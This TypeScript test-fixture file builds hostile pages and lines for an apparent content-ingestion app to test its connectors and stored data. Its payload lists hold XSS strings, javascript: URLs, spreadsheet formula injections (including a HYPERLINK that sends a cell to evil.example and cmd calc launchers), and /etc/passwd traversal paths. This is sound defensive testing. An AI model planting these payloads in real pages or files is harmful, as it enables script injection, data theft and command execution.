import { type Connector, connectors, mapSignalLine } from "@groundswell/connectors";
import type { Batch, Json, RawPage, Signal } from "@groundswell/model";
import { batch } from "@groundswell/model";
import { type Counts, finishPull, type Store, saveBatch, startPull } from "@groundswell/store";
import { makeSource } from "./store-fixtures.ts";

/** What a script of a source would leave behind had it run. */
export const mark = "groundswellOwned";
const script = `window.${mark}=1`;
export const tenMegabytes = 10_000_000;

/** Texts that somebody may write anywhere a platform takes text. */
export const hostileTexts = [
  `<script>${script}</script>`,
  `<img src=x onerror="${script}">`,
  `"><svg onload=${script}>`,
  `'-${script}-'`,
  `</title></style></textarea><iframe srcdoc="<script>parent.${mark}=1</script>">`,
  `[click](javascript:${script})`,
  `\${${script}} {{constructor.constructor('${script}')()}}`,
  "&lt;script&gt;",
  "\u202Egnp.exe\u2066 txt",
  "\u2067\u202D\u202B\u200F!",
  "a\u200Bd\u200Ca\u2060\uFEFF\u00AD",
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u200B=1+1",
  '"\r\n=1+1,"',
  "__proto__",
  "constructor",
  "مصباح \u200Fשלום 👩🏽‍🚀🏳️‍🌈 Ĺ̷̢o͜ng",
  `W${"w".repeat(400)}`,
  "a\u0000b\ud800",
  "../../../../etc/passwd?a=b#c%00",
] as const;

/** Addresses that no page may link to. */
export const hostileAddresses = [
  `javascript:${script}`,
  ` java\nscript:${script}`,
  `JaVaScRiPt:${script}//https://good.example`,
  `data:text/html,<script>parent.${mark}=1</script>`,
  `vbscript:${script}`,
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  '//evil.example/"onmouseover="x',
  `https://good.example/"><script>${script}</script>`,
] as const;

/** Five months in which everybody does something, so that everybody is ranked. */
const months = ["2025-09", "2025-10", "2025-11", "2025-12", "2026-01"];
const at = (month: number, day: number) =>
  `${months[month % months.length]}-${String(1 + (day % 28)).padStart(2, "0")}T12:00:00Z`;
const unix = (instant: string) => Date.parse(instant) / 1000;
const text = (index: number): string => hostileTexts[index % hostileTexts.length] as string;
const address = (index: number): string => hostileAddresses[index % hostileAddresses.length] as string;
const encoded = (value: string) => value.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
const huge = () => "<b>10 MB</b> ".repeat(tenMegabytes / 13);

/** A page as it came from a place, and the options of the source that read it. */
export type HostilePage = {
  connector: string;
  options: Record<string, unknown>;
  request: string;
  contentType: string;
  body: string;
  context?: Json;
};

const asJson = "application/json";

/** Questions of a Q&A site, each answered by everybody: titles, names and addresses are what the site's users wrote. */
function questions(): HostilePage {
  const owner = (index: number) => ({
    user_id: 100 + index,
    display_name: encoded(text(index)),
    link: address(index),
    profile_image: address(index),
  });
  const items = hostileTexts.map((title, index) => ({
    question_id: 1000 + index,
    title: index === 0 ? `${encoded(title)} ${huge()}` : encoded(title),
    link: address(index),
    tags: ["lumen", encoded(title)],
    creation_date: unix(at(index, index)),
    body: `<p>${encoded(title)}</p><a href="${encoded(address(index))}">${title}</a>`,
    owner: owner(index + 1),
    answer_count: 6,
    // Each of the first five people answers once in each month, whichever question it is.
    answers: [0, 1, 2, 3, 4, 5].map((turn) => ({
      answer_id: 10_000 + index * 10 + turn,
      question_id: 1000 + index,
      creation_date: unix(at(index, index)) + 3600 * (turn + 1),
      score: turn,
      link: address(index + turn),
      body: title,
      owner: owner((index * 6 + turn) % hostileTexts.length),
    })),
  }));
  const context = { list: "questions", tag: "lumen", threads: [] };
  return {
    ...{ connector: "stackexchange", options: { site: "qa.example", tagged: ["lumen"] }, contentType: asJson, context },
    ...{ request: "https://api.example/questions", body: JSON.stringify({ items }) },
  };
}

/** A topic of a forum whose users are called what they like. */
function topic(): HostilePage {
  const posts = Array.from({ length: 60 }, (_, index) => ({
    id: 500 + index,
    post_number: 1 + index,
    post_type: 1,
    user_id: 900 + (index % 6),
    username: ["__proto__", "constructor", "toString", "ad\u200Ba", "\u202Eada", "<b>ada</b>"][index % 6],
    name: text(index),
    created_at: at(index, index),
    cooked: `<p onclick="${script}">${hostileTexts[index % 4]}</p><a href="${encoded(address(index))}">x</a>`,
    primary_group_name: text(index),
  }));
  const body = {
    id: 77,
    title: text(1),
    fancy_title: text(1),
    slug: "../x",
    tags: [text(2), "__proto__"],
    category_id: 6,
  };
  return {
    ...{
      connector: "discourse",
      options: { url: "https://forum.example", category: "support/6" },
      contentType: asJson,
    },
    ...{ request: "https://forum.example/t/77.json", context: { category: { slug: "support", name: text(3) } } },
    body: JSON.stringify({ ...body, created_at: at(0, 0), post_stream: { posts, stream: posts.map(({ id }) => id) } }),
  };
}

/** A feed whose every field is an attempt. */
function feed(): HostilePage {
  const entries = hostileTexts.map(
    (title, index) => `<entry><id>urn:x:${index}</id><title type="html">${encoded(encoded(xml(title)))}</title>
      <link href="${encoded(xml(address(index)))}"/><published>${at(index, index)}</published><updated>${at(index, index)}</updated>
      <author><name>${encoded(xml(title))}</name><uri>${encoded(xml(address(index)))}</uri></author>
      <category term="${encoded(xml(title))}"/><content type="html">${encoded(`<a href="${encoded(address(index))}">${xml(title)}</a>`)}</content></entry>`,
  );
  return {
    ...{ connector: "feed", options: { url: "https://blog.example/feed.xml" }, contentType: "application/atom+xml" },
    request: "https://blog.example/feed.xml",
    body: `<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>${encoded(text(1))} ${"blog ".repeat(20_000)}</title>
      <link href="javascript:${script}"/><id>urn:x</id><updated>${at(4, 1)}</updated>${entries.join("")}</feed>`,
  };
}

/** XML knows neither NUL nor halves of characters. */
function xml(value: string): string {
  return value.replaceAll("\0", "").toWellFormed();
}

/** A mailing list's month, with mail that is HTML only. */
function mail(): HostilePage {
  const messages = hostileTexts.map((subject, index) =>
    [
      `From ada at example.org  Mon Sep  1 12:00:00 2025`,
      `From: =?utf-8?B?${Buffer.from(xml(subject)).toString("base64")}?= <p${index % 5}@people.example>`,
      `Date: ${new Date(at(index, index)).toUTCString()}`,
      `Subject: =?utf-8?B?${Buffer.from(xml(subject)).toString("base64")}?=`,
      `Message-ID: <m${index}@people.example>`,
      ...(index % 2 ? [`In-Reply-To: <m${index - 1}@people.example>`] : []),
      "MIME-Version: 1.0",
      "Content-Type: text/html; charset=utf-8",
      "",
      `<html><body><script>${script}</script><p onload="${script}">${encoded(xml(subject).replaceAll(/[\r\n]/g, " "))}</p><a href="${encoded(address(index).replaceAll("\n", ""))}">x</a></body></html>`,
      "",
    ].join("\n"),
  );
  return {
    ...{
      connector: "pipermail",
      options: { url: "https://lists.example/pipermail/lumen/" },
      contentType: "text/plain",
    },
    ...{
      request: "https://lists.example/pipermail/lumen/2025.txt",
      body: messages.join("\n"),
      context: { label: "2025" },
    },
  };
}

/** A calendar of a group that announces attempts. */
function calendar(): HostilePage {
  const escaped = (value: string) =>
    xml(value)
      .replaceAll(/[\r\n]/g, "")
      .replaceAll("\\", "\\\\")
      .replaceAll(/[,;]/g, "\\$&");
  const events = hostileTexts.flatMap((title, index) => [
    "BEGIN:VEVENT",
    `UID:e${index}@group.example`,
    `DTSTAMP:20250901T120000Z`,
    `DTSTART:${at(index, index).replaceAll(/[-:]/g, "")}`,
    `SUMMARY:${escaped(title)}`,
    `LOCATION:${escaped(title)}`,
    `URL:${address(index).replaceAll(/[\r\n]/g, "")}`,
    `ORGANIZER;CN="${escaped(title).replaceAll('"', "'")}":mailto:o${index % 3}@group.example`,
    "END:VEVENT",
  ]);
  return {
    ...{ connector: "ical", options: { url: "https://group.example/events.ics" }, contentType: "text/calendar" },
    ...{
      request: "https://group.example/events.ics",
      context: { from: "2025-01-01T00:00:00Z", to: "2026-02-01T00:00:00Z" },
    },
    body: [
      "BEGIN:VCALENDAR",
      "VERSION:2.0",
      "PRODID:x",
      `X-WR-CALNAME:${escaped(text(0))}`,
      ...events,
      "END:VCALENDAR",
    ].join("\r\n"),
  };
}

/** Issues of a repository. */
function issues(): HostilePage {
  const user = (index: number) => ({
    id: 40 + (index % 4),
    login: ["__proto__", "hasOwnProperty", "ada", "valueOf"][index % 4],
    html_url: address(index),
    type: "User",
  });
  const items = hostileTexts.map((title, index) => ({
    ...{ id: 3000 + index, number: 1 + index, title, body: title, html_url: address(index), user: user(index) },
    ...{
      labels: [title, { name: title }],
      comments: 0,
      state: "open",
      created_at: at(index, index),
      updated_at: at(index, index),
    },
  }));
  const space = { id: "lumen/lamps", name: "lumen/lamps", url: address(0) };
  return {
    ...{
      connector: "github",
      options: { repository: "lumen/lamps" },
      contentType: asJson,
      context: { page: "issues", space },
    },
    ...{ request: "https://api.github.example/repos/lumen/lamps/issues", body: JSON.stringify(items) },
  };
}

/** One page of each of these places. */
export const hostilePages: readonly (() => HostilePage)[] = [questions, topic, feed, mail, calendar, issues];

/** Lines of a custom source, which go around every connector of ours: whatever they say is kept as it is said. */
export function hostileLines(): string[] {
  const space = (index: number) => ({
    platform: "custom.example",
    id: `space-${index}`,
    kind: "site",
    name: `${text(index)} ${index === 0 ? huge() : ""}`,
    url: address(index),
  });
  return hostileTexts.flatMap((title, index) =>
    months.map((month, turn) =>
      JSON.stringify({
        ...{
          id: `line-${index}-${month}`,
          kind: turn === 0 ? "question" : "answer",
          occurredAt: `${month}-1${index % 9}T10:0${turn}:00Z`,
        },
        ...{ threadId: `line-${index}-${months[0]}`, parentId: turn === 0 ? null : `line-${index}-${months[0]}` },
        ...{
          space: space(index),
          title: turn === 1 && index === 0 ? huge() : title,
          excerpt: title,
          url: address(index + turn),
        },
        ...{ tags: [title], links: [...hostileAddresses], metrics: { score: 3, __proto__x: "x", closedReason: title } },
        account: {
          ...{
            platform: "custom.example",
            id: `who-${index}`,
            handle: title,
            name: index === 2 ? huge() : title,
            url: address(index),
          },
          ...{ links: [...hostileAddresses], location: title, company: title, memberOf: [title] },
        },
      }),
    ),
  );
}

/** Saves what a page says, as the connector of its place maps it; the counts of its pull. */
export async function saveHostile(store: Store, page: HostilePage, now: Date): Promise<Counts> {
  const { connector: name, options, request, contentType, body, context } = page;
  const connector = connectors[name] as Connector;
  const raw: RawPage = {
    request,
    contentType,
    body: Buffer.from(body),
    fetchedAt: now.toISOString(),
    ...(context ? { context } : {}),
  };
  const mapped = await connector.map?.(raw, connector.options.parse(options));
  // Ten megabytes of page are kept packed, as any page is.
  return saved(store, name, batch({ cursor: null, ...mapped, raw }), now);
}

/** Saves a batch in a pull of a source of its own. */
export async function saved(store: Store, id: string, given: Batch, now: Date): Promise<Counts> {
  const source = await makeSource(store, `hostile-${id}`, ["lumen"]);
  const pullId = await startPull(store, source.id, now);
  const counts = await saveBatch(store, { source, pullId, batch: given, now });
  const end = { pullId, sourceId: source.id, state: "ok", sourceState: "ok", counts, now } as const;
  await finishPull(store, { ...end, covers: null, error: null, retryAt: null, movedTo: null });
  return counts;
}

/** Saves all of it: from each place a page, and the lines. */
export async function saveEverythingHostile(store: Store, now: Date): Promise<void> {
  for (const page of hostilePages) await saveHostile(store, page(), now);
  await saved(store, "lines", batch({ cursor: null, signals: hostileSignals() }), now);
}

/** The lines as they are read. */
export function hostileSignals(): Signal[] {
  return hostileLines().map((line, index) => {
    const read = mapSignalLine(line, `line ${index + 1}`);
    if ("reason" in read) throw new Error(`${read.position}: ${read.reason}`);
    return read;
  });
}
